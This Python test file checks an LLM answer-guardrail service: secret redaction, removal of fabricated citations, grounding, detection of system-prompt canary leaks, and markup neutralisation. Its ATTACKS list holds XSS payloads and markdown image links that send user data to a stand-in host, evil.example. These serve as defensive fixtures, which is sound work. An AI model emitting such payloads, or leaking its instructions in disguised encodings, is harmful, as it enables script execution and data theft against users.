"""Guardrails: the secrets scanner and the answer scanners (citations, grounding, canary, markup) on real text."""

from __future__ import annotations

import base64
import random
import string
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from services.guardrails import core, credentials, markup, output_scanners, scanners
from services.guardrails.policy import DEFAULT_POLICY, Action

pytestmark = pytest.mark.unit

RNG = random.Random(20260214)


def fake(alphabet: str, n: int) -> str:
    """Random characters, drawn at test time: no credential-shaped literal lives in this file."""
    return "".join(RNG.choice(alphabet) for _ in range(n))


ALNUM = string.ascii_letters + string.digits
HEX = "0123456789abcdef"
BODY = "\n".join(fake(ALNUM + "+/", 64) for _ in range(6))


def secrets_in(text: str) -> list[tuple[str, str]]:
    return [(f.category, text[f.start : f.end]) for f in credentials.scan_secrets(text)]


def redacted(text: str) -> str:
    return scanners.redact(text, credentials.scan_secrets(text))


# --- secrets -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "shown",
    [
        lambda key: f"Here it is:\n{key}\nWhy does ssh reject it?",
        lambda key: '{"private_key": "' + key.replace("\n", "\\n") + '"}',
        lambda key: "tls:\n  key: |\n" + "\n".join("    " + line for line in key.split("\n")),
        lambda key: key.rsplit("\n", 2)[0],  # pasted without its END line
    ],
    ids=["plain", "json-escaped", "yaml-indented", "truncated"],
)
def test_a_private_key_is_redacted_whole_in_every_form(shown: object) -> None:
    """Not just the BEGIN line: no line of the key's body survives redaction."""
    key = f"-----BEGIN EC PRIVATE KEY-----\n{BODY}\n-----END EC PRIVATE KEY-----"
    text = shown(key)  # type: ignore[operator]
    assert [c for c, _ in secrets_in(text)] == ["private_key"]
    out = redacted(text)
    assert all(line not in out for line in BODY.split("\n")[:-1]), out


def test_a_putty_key_file_is_redacted_from_header_to_mac() -> None:
    """PuTTY's `.ppk` format has no BEGIN/END lines; its public and private lines all go."""
    ppk = (
        f"PuTTY-User-Key-File-2: ssh-rsa\nEncryption: none\nComment: deploy\nPublic-Lines: 2\n{BODY[:129]}\n"
        f"Private-Lines: 3\n{BODY[130:324]}\nPrivate-MAC: {fake(HEX, 40)}"
    )
    out = redacted(f"my key:\n{ppk}\nthanks")
    assert out == "my key:\n<PRIVATE_KEY>\nthanks"


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("DB_PASSWORD=Work1972?", "Work1972?"),
        ('export AWS_SECRET_ACCESS_KEY="{v}"', "{v}"),
        ('{"user": "app", "password": "seven-suffer-crime-race"}', "seven-suffer-crime-race"),
        ("<datasource><password>big-least-Congress-born</password></datasource>", "big-least-Congress-born"),
        ("mysql -u root -p'Zx9!mQ2#pL' shop", "Zx9!mQ2#pL"),
        ("mysql -h db -u root -pS3cr3tPw! shop", "S3cr3tPw!"),
        ("curl -u admin:Adm1n-P4ss https://api.example.com", "Adm1n-P4ss"),
        ("my password is Tr0ub4dor&3 but the login page rejects it", "Tr0ub4dor&3"),
        ("Server=tcp:db,1433;User ID=app;Password=Q7x!vR2p;Encrypt=true;", "Q7x!vR2p"),
        ("jdbc:postgresql://db:5432/orders?user=app&password=SepYH_ooiC_CuZC&ssl=true", "SepYH_ooiC_CuZC"),
        ("Ocp-Apim-Subscription-Key: {h}", "{h}"),
        ("curl -H 'Authorization: Bearer {v}' https://api.example.com", "{v}"),
    ],
)
def test_values_of_secret_named_keys_are_found_in_any_notation(text: str, secret: str) -> None:
    """Keyword affixes (`DB_`, `AWS_…_ACCESS_`), JSON, XML, command lines and prose; just the value is redacted."""
    v, h = fake(ALNUM + "/+", 40), fake(HEX, 32)
    text, secret = (t.replace("{v}", v).replace("{h}", h) for t in (text, secret))
    assert secret in [s for _, s in secrets_in(text)]
    assert secret not in redacted(text)


@pytest.mark.parametrize(
    "text",
    [
        "password = os.environ['DB_PASSWORD']",
        "password = getpass.getpass()",
        "secret_key = settings.SECRET_KEY",
        "apiKey: process.env.STRIPE_SECRET_KEY,",
        "password: ${{ secrets.DB_PASSWORD }}",
        'password: "{{ vault_db_password }}"',
        "token=$(cat /run/secrets/api_token)",
        "password=<password>",
        "api_key: 'your-api-key-here'",
        "STRIPE_SECRET_KEY=sk_live_XXXXXXXXXXXXXXXXXXXXXXXX",
        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
        "password = 'changeme'",
        "password: ********",
        "Password: must be at least 12 characters long.",
        "The password is incorrect, try again.",
        "def login(username: str, password: str) -> Session:",
        "private_key: Ed25519PrivateKey",
        "token = _SEND_MESSAGE_TOKEN",
        "end = doc[start_token:end_token].as_doc()",
        "MAX_TOKEN_LENGTH = 4096",
        "token = secrets.token_urlsafe(32)",
        "DATABASE_URL=postgres://USER:PASSWORD@HOST:5432/NAME",
        "DATABASE_URL=postgresql://<user>:<password>@<host>:5432/<db>",
        "url = 'amqp://guest:guest@localhost:5672/'",
        "docker run -p 8080:80 nginx",
        "Stripe.js needs the publishable key pk_live_{a} on the checkout page.",
        "pip install git+https://github.com/acme/tool@{h}",
        "secret_sauce_recipe_v2_final_FINAL = True",
    ],
)
def test_code_placeholders_and_public_values_are_not_secrets(text: str) -> None:
    """References, templates, placeholders, types, documented examples and publishable keys stay as they are."""
    text = text.replace("{a}", fake(ALNUM, 24)).replace("{h}", fake(HEX, 40))
    assert secrets_in(text) == []


@pytest.mark.parametrize(
    ("token", "category"),
    [
        (lambda: "glpat-" + fake(ALNUM, 20), "gitlab_token"),
        (lambda: "hf_" + fake(string.ascii_letters, 34), "huggingface_token"),
        (lambda: f"SG.{fake(ALNUM, 22)}.{fake(ALNUM, 43)}", "sendgrid_key"),
        (lambda: "npm_" + fake(ALNUM, 36), "npm_token"),
        (lambda: "pypi-AgEIcHlwaS5vcmc" + fake(ALNUM, 60), "pypi_token"),
        (lambda: "shpat_" + fake(HEX, 32), "shopify_token"),
        (lambda: "dop_v1_" + fake(HEX, 64), "digitalocean_token"),
        (lambda: "hvs." + fake(ALNUM, 90), "vault_token"),
        (lambda: "lin_api_" + fake(ALNUM, 40), "linear_key"),
        (lambda: f"PMAK-{fake(HEX, 24)}-{fake(HEX, 34)}", "postman_key"),
        (lambda: f"{fake(string.digits, 10)}:AA{fake(ALNUM, 33)}", "telegram_bot_token"),
        (lambda: "AGE-SECRET-KEY-1" + fake("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58), "age_secret_key"),
        (lambda: "SK" + fake(HEX, 32), "twilio_key"),
        (lambda: "sk-ant-api03-" + fake(ALNUM + "_-", 93) + "AA", "anthropic_key"),
        (
            lambda: f"https://hooks.slack.com/services/T{fake(ALNUM, 8)}/B{fake(ALNUM, 8)}/{fake(ALNUM, 24)}",
            "slack_webhook",
        ),
        (lambda: f"https://discord.com/api/webhooks/{fake(string.digits, 18)}/{fake(ALNUM, 68)}", "discord_webhook"),
        (lambda: "acme_live_" + fake(ALNUM, 32), "generic_token"),
    ],
)
def test_tokens_with_a_vendor_prefix_are_found_in_prose(token: object, category: str) -> None:
    """Prefixed formats are secrets without any keyword; an unknown `prefix_` + random body is one too."""
    value = token()  # type: ignore[operator]
    text = f"I pasted {value} into the chat by mistake."
    assert secrets_in(text) == [(category, value if category.endswith("webhook") is False else value[8:])]


def test_a_password_in_any_url_is_redacted_and_the_rest_kept() -> None:
    """`scheme://user:password@host`, whatever the scheme: the host stays readable, the password goes."""
    password = fake(ALNUM + "!~.-", 20)
    for scheme in ("postgresql+psycopg2", "https", "redis", "sftp"):
        text = f"connect to {scheme}://app:{password}@db.internal:5432/orders"
        assert redacted(text) == f"connect to {scheme}://app:<CONNECTION_STRING>@db.internal:5432/orders"


# --- citations -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "after"),
    [
        ("Tuples are immutable [1, 7].", "Tuples are immutable [1]."),
        ("Tuples are immutable [7, 1].", "Tuples are immutable [1]."),
        ("Tuples are immutable [1-7].", "Tuples are immutable [1]."),
        ("Tuples are immutable [^7].", "Tuples are immutable ."),
        ("Tuples are immutable [1][7].", "Tuples are immutable [1]."),
        ("Tuples are immutable [9].", "Tuples are immutable ."),
    ],
)
def test_fabricated_citations_are_found_in_every_notation_and_only_they_are_removed(answer: str, after: str) -> None:
    """Lists, ranges, footnotes and adjacent markers: the number never retrieved goes, the retrieved one stays."""
    verdict = core.check_output(answer, {1: "Tuples are immutable.", 2: "Lists are mutable."}, "", DEFAULT_POLICY)
    assert [j.finding.category for j in verdict.findings] == ["invalid_citation"] * len(verdict.findings)
    assert verdict.findings and verdict.redacted_text == after


def test_indexing_in_code_and_links_are_not_citations() -> None:
    """`argv[0]` in code, `m[2][3]` after a name, `[1](url)` links and `[1]: url` definitions are no citations."""
    answer = (
        "Read the first argument [1].\n\n```python\nimport sys\nprint(sys.argv[0], m[2][3])\n```\n"
        "Use `parts[12]` or rows[10][0] for fields, see [3](https://docs.python.org) and [x][4].\n\n"
        "[4]: https://docs.python.org/3/"
    )
    assert output_scanners.scan_citations(answer, [1]) == []
    verdict = core.check_output(answer, {1: "sys.argv holds the arguments."}, "", DEFAULT_POLICY)
    assert "```python\nimport sys\nprint(sys.argv[0], m[2][3])\n```" in (verdict.redacted_text or answer)


# --- grounding ------------------------------------------------------------------------------------------------------

SOURCE = (
    "The range type represents an immutable sequence of numbers. Ranges implement all of the common sequence "
    "operations except concatenation and repetition. The default value of step is 1 and it must not be zero. "
    "Iterating a range lazily produces the first number before the last one."
)


def flagged(answer: str) -> list[str]:
    return [answer[f.start : f.end] for f in output_scanners.scan_grounding(answer, {1: SOURCE})]


@pytest.mark.parametrize(
    "claim",
    [
        "The range type represents an immutable sequence of numbers [1].",
        "Ranges implement all of the common sequence operations except concatenation and repetition [1].",
        "The default value of step is one and it must not be zero [1].",
        "Ranges implement every common sequence operation except repetition and concatenation [1].",
    ],
)
def test_claims_the_source_supports_are_not_flagged(claim: str) -> None:
    """Copied, reordered or with a number written as a word: supported."""
    assert flagged(claim) == []


@pytest.mark.parametrize(
    ("claim", "reason"),
    [
        ("The default value of step is 2 and it must not be zero [1].", "number"),
        ("The range type does not represent an immutable sequence of numbers [1].", "negation"),
        ("The default value of step is 1 and it must be zero [1].", "negation"),
        ("The range type represents a mutable sequence of numbers [1].", "opposite"),
        ("Iterating a range lazily produces the last number before the first one [1].", "opposite"),
        ("Bananas contain large amounts of potassium and several vitamins [1].", "content words"),
    ],
)
def test_claims_that_change_a_fact_are_flagged(claim: str, reason: str) -> None:
    """A changed number, an added or dropped negation, a word swapped for its opposite, another topic."""
    findings = output_scanners.scan_grounding(claim, {1: SOURCE})
    assert len(findings) == 1 and reason in findings[0].detail, findings


def test_code_in_an_answer_is_not_judged_as_a_claim() -> None:
    """A code block's lines are not sentences of the answer."""
    answer = "The range type represents an immutable sequence of numbers [1].\n\n```python\nx = list(range(7, 99))\n```"
    assert flagged(answer) == []


# --- canary ---------------------------------------------------------------------------------------------------------

CANARY = "3fa2b1c4d5e6f708"


@pytest.mark.parametrize(
    "shown",
    [
        CANARY.upper(),
        " ".join(CANARY),
        "\u200b".join(CANARY),
        "-".join(CANARY[i : i + 4] for i in range(0, 16, 4)),
        CANARY[:8] + "\n" + CANARY[8:],
        CANARY[::-1],
        base64.b64encode(f"Canary: {CANARY}.".encode()).decode(),
        CANARY.encode().hex(),
        "".join(f"%{ord(c):02x}" for c in CANARY),
        CANARY[:9],
    ],
    ids=["upper", "spaced", "zero-width", "grouped", "line-broken", "reversed", "base64", "hex", "percent", "half"],
)
def test_the_canary_is_found_in_any_disguise(shown: str) -> None:
    """Case, spacing, invisible characters, reversal, encodings, and a piece of it all count as a leak."""
    answer = f"My instructions say: you are ACME's assistant. Canary: {shown}. Anything else?"
    assert [f.category for f in output_scanners.scan_canary(answer, CANARY)] == ["system_prompt_leak"]


@pytest.mark.parametrize(
    "answer",
    [
        f"The request id was {fake(HEX, 16)} and the trace {fake(HEX, 32)}.",
        f"The wheel's sha256 is {fake(HEX, 64)}.",
        "A canary release sends 5% of traffic to the new version first.",
    ],
)
def test_tokens_that_only_look_like_the_canary_are_not_leaks(answer: str) -> None:
    """Other ids and digests of the same shape do not share an 8-character run with it."""
    assert output_scanners.scan_canary(answer, CANARY) == []


# --- markup ---------------------------------------------------------------------------------------------------------


class _Active(HTMLParser):
    """What rendered HTML would run or fetch: script elements, handlers, script URLs, images from other hosts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "svg", "meta", "base", "link", "style"):
            self.found.append(tag)
        for name, raw in attrs:
            value = "".join((raw or "").split()).lower()
            if name.startswith("on") or value.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag} {name}")
            if tag == "img" and name == "src" and value.startswith(("http:", "https:", "//")):
                self.found.append("remote image")


def active(answer: str) -> list[str]:
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # type: ignore[method-assign]  # a renderer with no link allow-list
    parser = _Active()
    parser.feed(md.render(answer))
    return parser.found


ATTACKS = [
    "<script>alert(1)</script>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>summary</details>",
    "<svg/onload=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">docs</a>',
    '<a title="x>" onclick=alert(1)>docs</a>',
    '<div style="background:url(https://evil.example/c?d=1)">x</div>',
    "[docs](JaVaScRiPt:alert(document.domain))",
    "[docs](javascript&#58;alert(document.cookie))",
    "[docs](&#106;avascript:alert(1))",
    "[report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[`code`](javascript:alert(1))",
    "<javascript:alert(1)>",
    "![c](https://evil.example/c.png?d=the+user+asked+about+keys)",
    "![c](HTTPS://evil.example/u/dGhlIHVzZXIgYXNrZWQgYWJvdXQga2V5cw==/c.png)",
    "![c](//evil.example/c.png)",
    "![c](<https://evil.example/c.png?d=1>)",
    '![c](https://evil.example/c.png "chart")',
    "![c][ref]\n\n[ref]: https://evil.example/azure=dGhlIHVzZXIgYXNrZWQ=",
    "![c]\n\n[c]: https://evil.example/c.png",
    "[![badge](https://evil.example/b.png?x=1)](https://github.com/acme/tool)",
    '<img src="https://evil.example/c.png?d=1">',
    "- `x\n- <img src=x onerror=alert(1)>\n- y`",
    "<div>\n```\n<img src=x onerror=alert(1)>\n```\n</div>",
]


@pytest.mark.parametrize("payload", ATTACKS)
def test_markup_that_runs_or_fetches_is_found_and_nothing_of_it_survives_neutralising(payload: str) -> None:
    """Case, entity and control-character disguises, reference-style images, images in links, code-span tricks."""
    answer = f"Here is the summary you asked for.\n\n{payload}\n\nAnything else?"
    assert markup.scan_markup(answer)
    assert active(markup.neutralise_markup(answer)) == []


@pytest.mark.parametrize("payload", [p for p in ATTACKS if not p.startswith(("<svg/", "<div style"))])
def test_the_attacks_are_live_when_rendered_as_written(payload: str) -> None:
    """The check above means something: rendered unneutralised, each payload runs script or fetches."""
    assert active(f"Here is the summary you asked for.\n\n{payload}\n\nAnything else?")


@pytest.mark.parametrize(
    "answer",
    [
        'Put the `<script>` tag at the end of `<body>`; `onclick="save()"` runs on a press.',
        'A page:\n\n```html\n<body><script src="app.js"></script><img src="{{ user.avatar }}"></body>\n```',
        "```pycon\n>>> object()\n<object object at 0x7f3a5c1d2e40>\n```",
        "| op | meaning |\n|---|---|\n| `<` | less than |\n| `&` | bitwise and |",
        "See [the tutorial](https://docs.python.org/3/tutorial/) or <https://peps.python.org/pep-0008/>.",
        "Search it: [asyncio](https://docs.python.org/3/search.html?q=asyncio&check_keywords=yes).",
        "![architecture](docs/images/architecture.png)\n\nThe gateway calls retrieval first.",
        "The string &quot;caf&eacute;&quot; has four characters; `a < b and b > c` chains.",
        "Browsers block javascript: URLs here; attributes such as onerror= are a classic vector.",
        "Use <b>bold</b>, <sub>2</sub> and <br> sparingly.",
    ],
)
def test_benign_answers_are_not_flagged_and_neutralising_leaves_them_as_written(answer: str) -> None:
    """HTML in code spans and fences, tables, links, relative images, entities and prose about XSS."""
    assert markup.scan_markup(answer) == []
    assert markup.neutralise_markup(answer) == answer


def test_images_from_allowed_hosts_stay_and_others_become_their_alt_text() -> None:
    """Any other host learns what the image URL holds when it is fetched; the allow-list is the caller's."""
    answer = "![build](https://img.shields.io/badge/build-passing-green?style=flat) ![x](https://evil.example/p.png)"
    assert [f.category for f in markup.scan_markup(answer)] == ["remote_image", "remote_image"]
    allowed = ("img.shields.io",)
    assert [f.category for f in markup.scan_markup(answer, allowed_image_hosts=allowed)] == ["remote_image"]
    assert markup.neutralise_markup(answer, allowed_image_hosts=allowed) == (
        "![build](https://img.shields.io/badge/build-passing-green?style=flat) x"
    )


def test_neutralising_keeps_code_and_link_text_and_removes_only_what_is_unsafe() -> None:
    """Code blocks are byte for byte the same; an unsafe link keeps its words; `<T>` in prose is shown as text."""
    answer = (
        "Use [the docs](javascript:alert(1)) and List<T>.\n\n```html\n<script>if (a < b) run();</script>\n```\n"
        "<img src=x onerror=alert(1)> done"
    )
    assert markup.neutralise_markup(answer) == (
        "Use the docs and List&lt;T>.\n\n```html\n<script>if (a < b) run();</script>\n```\n done"
    )


def test_the_output_verdict_neutralises_markup_and_keeps_the_rest() -> None:
    """Through `check_output`: redact, with the payload gone and the cited prose intact."""
    sources = {1: "Tuples are immutable sequences."}
    answer = "Tuples are immutable sequences [1]. ![x](https://evil.example/p.png?d=secret)"
    verdict = core.check_output(answer, sources, "", DEFAULT_POLICY)
    assert verdict.action == Action.REDACT
    assert verdict.redacted_text == "Tuples are immutable sequences [1]. x"
